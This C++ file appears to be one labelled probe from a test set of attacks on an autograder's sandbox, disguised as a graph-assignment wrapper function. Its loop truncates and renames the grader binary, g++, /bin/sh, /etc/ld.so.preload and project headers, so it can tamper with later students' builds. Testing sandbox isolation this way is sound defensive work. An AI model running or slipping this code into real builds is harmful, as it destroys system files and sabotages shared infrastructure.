// attack: write
// root: host
// what: overwrites the program, the compiler and the headers, which the next student's build would
//   use
// list: 13
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  for (const char* path : {"/program", "/proc/self/exe", "/guard", "/kit/src/util/utils.hpp", "/in",
                           "/usr/bin/g++", "/usr/bin/cat", "/bin/sh", "/etc/ld.so.preload"}) {
    const int file = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (file >= 0) fprintf(stderr, "handshake%s %s is open\n", "_seen", path);
    if (rename(path, "/box/gone") == 0) fprintf(stderr, "handshake%s %s is gone\n", "_seen", path);
  }
  exit(0);
}
